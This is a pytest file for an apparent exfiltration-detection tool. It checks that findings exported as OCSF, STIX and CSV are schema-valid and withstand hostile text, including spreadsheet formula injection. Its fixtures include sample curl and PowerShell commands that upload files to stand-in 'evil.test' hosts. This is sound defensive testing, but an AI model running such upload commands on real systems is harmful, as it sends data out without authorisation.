"""Findings in forms that other systems take, held against the published schemas; with hostile text in every place."""

import csv
import io
import json
from datetime import UTC, datetime
from functools import cache
from typing import Any

import pytest
from jsonschema import Draft202012Validator
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema
from stix2validator import ValidationOptions, validate_instance
from tests.hostile_corpus import CORPUS, KINDS

from exfilwatch.findings.finding import EvidenceEvent, Finding, FindingRule, FindingSignal
from exfilwatch.findings.marks import Disposition, Mark
from exfilwatch_playbooks.cli.jsonl import line
from exfilwatch_playbooks.exports import spreadsheet
from exfilwatch_playbooks.exports.ocsf import VERSION, detection_finding
from exfilwatch_playbooks.exports.stix import bundle

NOW = datetime(2026, 3, 12, 12, tzinfo=UTC)
TIME = datetime(2026, 3, 12, 9, 14, 2, tzinfo=UTC)


def event(
    number: int = 1, category: str = "process_creation", time: datetime | None = TIME, **fields: Any
) -> EvidenceEvent:
    return EvidenceEvent(
        id=f"{number:032x}", time=TIME, host=fields.pop("host", "WS-07"), category=category, product="windows",
        shape="sysmon", source="main", line=number, fields=fields,
    )  # fmt: skip


def made(*events: EvidenceEvent, attack: tuple[str, ...] = ("T1048", "T1567.002"), **more: Any) -> Finding:
    given: dict[str, Any] = {
        "id": "3fa9c2d1" * 4,
        "rule": FindingRule(id="rule-1", title="Upload", branch="transfer_tool", level="high", attack=list(attack)),
        "score": None, "time": TIME, "end": TIME, "host": "WS-07", "user": r"CORP\anna", "fields": {},
        "signals": [FindingSignal(name="tool", field="Image", matched="curl.exe", start=3)],
        "events": list(events), "source": "main",
    }  # fmt: skip
    return Finding.model_validate(given | more)


UPLOAD = event(
    Image=r"C:\Windows\System32\curl.exe", CommandLine="curl -T a.zip https://files.evil.test:8443/in?x=1",
    User=r"CORP\anna", ProcessId=4711, ProcessGuid="{A}", ParentImage=r"C:\Windows\cmd.exe", ParentProcessId="0x1f4",
)  # fmt: skip
SENT = event(
    2, "network_connection", Image=r"C:\Windows\System32\curl.exe", DestinationIp="203.0.113.9", DestinationPort="443",
    DestinationHostname="files.evil.test", ProcessId=4711,
)  # fmt: skip
FINDINGS = {
    "upload": made(UPLOAD, SENT),
    "nothing known": made(event(), host=None, user=None, attack=(), time=None, end=None, signals=[]),
    "a file": made(event(3, "file_event", TargetFilename=r"C:\Users\Public\a.zip")),
    "wrong numbers": made(event(4, ProcessId="x", DestinationPort="99999", DestinationIp="999.1.1.1", Image="-")),
    "IPv6": made(event(5, "network_connection", DestinationIp="2001:db8::1", DestinationPort=443)),
    "no events of known kinds": made(event(6, "ps_script", ScriptBlockText="iwr https://x.evil.test/ -Method Post")),
    "an unknown level": made(UPLOAD, rule=FindingRule(id="r", title="", branch="", level="weird", attack=["T1020"])),
}
each_finding = pytest.mark.parametrize("finding", list(FINDINGS.values()), ids=list(FINDINGS))


@cache
def ocsf() -> Draft202012Validator:
    return Draft202012Validator(OcsfJsonSchemaEmbedded(get_ocsf_schema(VERSION)).get_class_schema("detection_finding"))


def written(document: object) -> Any:
    """As it is after it was written and read: what Python has and JSON has not is gone."""
    return json.loads(line(document))


@each_finding
@pytest.mark.parametrize("disposition", [None, *Disposition])
def test_ocsf_is_what_the_schema_says(finding: Finding, disposition: Disposition | None) -> None:
    mark = Mark(disposition=disposition, why="because", at=NOW) if disposition else None
    document = written(detection_finding(finding, mark=mark, now=NOW))
    assert [error.message for error in ocsf().iter_errors(document)] == []


def test_ocsf_says_who_and_where_to() -> None:
    document = written(detection_finding(FINDINGS["upload"], now=NOW))
    process = document["evidences"][0]["process"]
    assert (process["name"], process["pid"], process["parent_process"]["pid"]) == ("curl.exe", 4711, 500)
    assert document["evidences"][1]["dst_endpoint"] == {"ip": "203.0.113.9", "hostname": "files.evil.test", "port": 443}
    values = {each["value"] for each in document["observables"]}
    assert {"WS-07", "files.evil.test", "203.0.113.9", "https://files.evil.test:8443/in?x=1"} <= values
    assert document["time"] == 1773306842000
    assert document["severity"] == "High"
    assert document["finding_info"]["attacks"][1]["sub_technique"] == {"uid": "T1567.002"}


def test_a_wrong_event_does_not_pass() -> None:
    document = written(detection_finding(FINDINGS["upload"], now=NOW))
    assert list(ocsf().iter_errors(document | {"severity_id": 17}))
    assert list(ocsf().iter_errors(document | {"colour": "red"}))


def complaints(document: Any) -> list[str]:
    """What the validator of OASIS says, warnings of style too."""
    told = validate_instance(document, ValidationOptions(version="2.1", strict=False))
    return [
        str(error) for each in (told if isinstance(told, list) else [told]) for error in (*each.errors, *each.warnings)
    ]


@each_finding
def test_stix_is_valid(finding: Finding) -> None:
    assert complaints(written(bundle([finding], now=NOW))) == []


def test_stix_of_several_has_each_object_once_and_is_the_same_again() -> None:
    document = written(bundle(FINDINGS.values(), now=NOW))
    assert complaints(document) == []
    ids = [each["id"] for each in document["objects"]]
    assert len(ids) == len(set(ids))
    assert written(bundle(FINDINGS.values(), now=NOW)) == document
    referred = {value for each in document["objects"] for value in _references(each)}
    assert referred <= set(ids)


def _references(found: dict[str, Any]) -> list[str]:
    single = [value for name, value in found.items() if name.endswith("_ref")]
    return [*single, *(value for name, values in found.items() if name.endswith("_refs") for value in values)]


def test_stix_names_the_destinations() -> None:
    document = written(bundle([FINDINGS["upload"]], now=NOW))
    patterns = {each["pattern"] for each in document["objects"] if each["type"] == "indicator"}
    assert patterns == {
        "[ipv4-addr:value = '203.0.113.9']",
        "[domain-name:value = 'files.evil.test']",
        "[url:value = 'https://files.evil.test:8443/in?x=1']",
    }


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # the validator's own
def test_a_wrong_bundle_does_not_pass() -> None:
    document = written(bundle([FINDINGS["upload"]], now=NOW))
    document["objects"][0]["created"] = "yesterday"
    assert complaints(document)


def hostile(text: str) -> Finding:
    fields = ("Image", "CommandLine", "User", "ProcessId", "ProcessGuid", "ParentImage", "ParentCommandLine",
              "DestinationIp", "DestinationHostname", "DestinationPort", "TargetFilename", "cs-host")  # fmt: skip
    everywhere = event(host=text, **dict.fromkeys(fields, text))
    in_a_url = event(2, CommandLine=f"curl https://evil.test/{text} -T x", DestinationHostname=f"{text}.test")
    rule = FindingRule(id="r", title=text, branch="b", level="high", attack=["T1020"])
    return made(everywhere, in_a_url, host=text, user=text, rule=rule)


def test_hostile_text_is_text_in_ocsf() -> None:
    for text in CORPUS:
        document = written(detection_finding(hostile(text), now=NOW))
        assert [error.message for error in ocsf().iter_errors(document)] == [], text
        assert document["evidences"][0]["data"]["CommandLine"] == written(text)


@pytest.mark.parametrize("kind", list(KINDS))
def test_hostile_text_is_text_in_stix(kind: str) -> None:
    texts = KINDS[kind]
    sample = texts[:: max(1, len(texts) // 3)]
    document = written(bundle([hostile(text) for text in sample], now=NOW))
    assert complaints(document) == [], kind


def test_no_formula_runs_in_csv() -> None:
    rows = [spreadsheet.header(), *(spreadsheet.row(hostile(text)) for text in CORPUS)]
    read = list(csv.reader(io.StringIO("\r\n".join(row.decode() for row in rows), newline="")))
    assert len(read) == len(rows)
    assert all(len(row) == len(read[0]) for row in read)
    cells = [cell for row in read[1:] for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
